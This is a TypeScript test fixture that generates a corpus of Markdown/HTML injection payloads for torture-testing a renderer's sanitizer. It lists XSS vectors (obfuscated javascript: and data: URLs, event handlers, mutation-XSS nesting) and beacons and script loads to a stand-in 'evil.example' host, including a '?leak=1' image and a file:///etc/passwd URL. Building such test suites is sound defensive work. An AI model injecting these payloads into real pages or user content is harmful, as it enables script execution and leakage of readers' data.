// Markdown written to break out of a renderer, for tests and torture: well-known payloads, and a generator that puts
// each of them into many wrappings. Nothing here is ever run.

const urls: readonly string[] = [
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  'java\nscript:alert(1)',
  'java\tscript:alert(1)',
  '\u0001javascript:alert(1)',
  ' javascript:alert(1)',
  'javascript&colon;alert(1)',
  'javascript&#58;alert(1)',
  '&#106;avascript:alert(1)',
  '&#x6A;avascript:alert(1)',
  'javascript://example.com/%0Aalert(1)',
  'vbscript:msgbox(1)',
  'data:text/html,<script>alert(1)</script>',
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  'data:image/svg+xml,<svg onload=alert(1)>',
  'data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+',
  'data:application/xhtml+xml,<x/>',
  'file:///etc/passwd',
  'blob:https://evil.example/1',
  'filesystem:https://evil.example/x',
  'app://host/x',
  'orrery://run/1',
  '//evil.example/x.png',
  '/\\evil.example/x.png',
  'https://evil.example/x.png?leak=1',
  'http://evil.example/track.gif',
  'https://user:pass@evil.example/',
  'ftp://evil.example/x',
  'ws://evil.example/',
  'tel:+123',
  'ms-msdt:/id',
  'smb://evil.example/share',
  'view-source:javascript:alert(1)',
  'feed:javascript:alert(1)',
  'jar:javascript:alert(1)!/',
];

const html: readonly string[] = [
  '<script>alert(1)</script>',
  '<script src="https://evil.example/x.js"></script>',
  '<SCRIPT>alert(1)</SCRIPT>',
  '<scr<script>ipt>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<img src="https://evil.example/x.png">',
  '<img srcset="https://evil.example/x.png 1x">',
  '<img/src=x/onerror=alert(1)//',
  '<image href="https://evil.example/x.png">',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="https://evil.example" ping="https://evil.example/ping">x</a>',
  '<a onclick=alert(1)>x</a>',
  '<div style="background:url(https://evil.example/x.png)">x</div>',
  '<div style="width:expression(alert(1))">x</div>',
  '<style>@import "https://evil.example/x.css";</style>',
  '<style>*{background:url(https://evil.example/x)}</style>',
  '<link rel=stylesheet href="https://evil.example/x.css">',
  '<link rel=prefetch href="https://evil.example/x">',
  '<meta http-equiv=refresh content="0;url=https://evil.example">',
  '<base href="https://evil.example/">',
  '<form action="https://evil.example"><input name=x autofocus onfocus=alert(1)></form>',
  '<button formaction="javascript:alert(1)">x</button>',
  '<input type=image src="https://evil.example/x.png">',
  '<video src="https://evil.example/x" autoplay onplay=alert(1)></video>',
  '<video poster="https://evil.example/x.png"></video>',
  '<audio src="https://evil.example/x" autoplay></audio>',
  '<source src="https://evil.example/x" onerror=alert(1)>',
  '<track src="https://evil.example/x">',
  '<body onload=alert(1)>',
  '<body background="https://evil.example/x.png">',
  '<table background="https://evil.example/x.png"><tr><td>x</td></tr></table>',
  '<details open ontoggle=alert(1)><summary>x</summary></details>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<template><script>alert(1)</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<textarea><script>alert(1)</script></textarea>',
  '<title><img src=x onerror=alert(1)></title>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<?xml-stylesheet href="javascript:alert(1)"?>',
  '<p id="__proto__" name="constructor">x</p>',
  '<slot onslotchange=alert(1)></slot>',
  '<x-custom onpointerenter=alert(1)>x</x-custom>',
  '<portal src="https://evil.example"></portal>',
  '<dialog open oncancel=alert(1)>x</dialog>',
];

/** Ways to write an address in Markdown. */
const carriers: readonly ((url: string) => string)[] = [
  (url) => `[click](${url})`,
  (url) => `[click](<${url}>)`,
  (url) => `![picture](${url})`,
  (url) => `[![picture](${url})](${url})`,
  (url) => `<${url}>`,
  (url) => url,
  (url) => `[click][r]\n\n[r]: ${url}`,
  (url) => `![picture][r]\n\n[r]: <${url}> "title"`,
  (url) => `[click](${url} "onmouseover=alert(1)")`,
];

/** Places inside Markdown where a payload can sit. */
const places: readonly ((payload: string) => string)[] = [
  (payload) => payload,
  (payload) => `before ${payload} after`,
  (payload) => `# ${payload}`,
  (payload) => `> ${payload}`,
  (payload) => `- ${payload}\n  - ${payload}`,
  (payload) => `| a | b |\n|---|---|\n| ${payload.replaceAll('|', '\\|').replaceAll('\n', ' ')} | x |`,
  (payload) => `**${payload}**`,
  (payload) => `~~_${payload}_~~`,
  (payload) => `text[^1]\n\n[^1]: ${payload}`,
  (payload) => `\`\`\`html\n${payload}\n\`\`\``,
  (payload) => `\`\`\`${payload.replaceAll('`', '').replaceAll('\n', ' ')}\ncode\n\`\`\``,
  (payload) => `<div>\n\n${payload}\n\n</div>`,
];

/** The plain list: each payload once, as it is. */
export const payloads: readonly string[] = [...html, ...urls.flatMap((url) => carriers.map((carry) => carry(url)))];

/** Every payload in every place: several thousand texts. `limit` takes an even sample. */
export function* corpus(limit = Number.POSITIVE_INFINITY): Generator<string> {
  const total = payloads.length * places.length;
  const step = Math.max(1, total / Math.max(1, limit));
  for (let at = 0, given = 0; at < total && given < limit; at = Math.floor(++given * step)) {
    const place = places[at % places.length];
    const payload = payloads[Math.floor(at / places.length)];
    if (place !== undefined && payload !== undefined) yield place(payload);
  }
}

export const corpusSize = payloads.length * places.length;
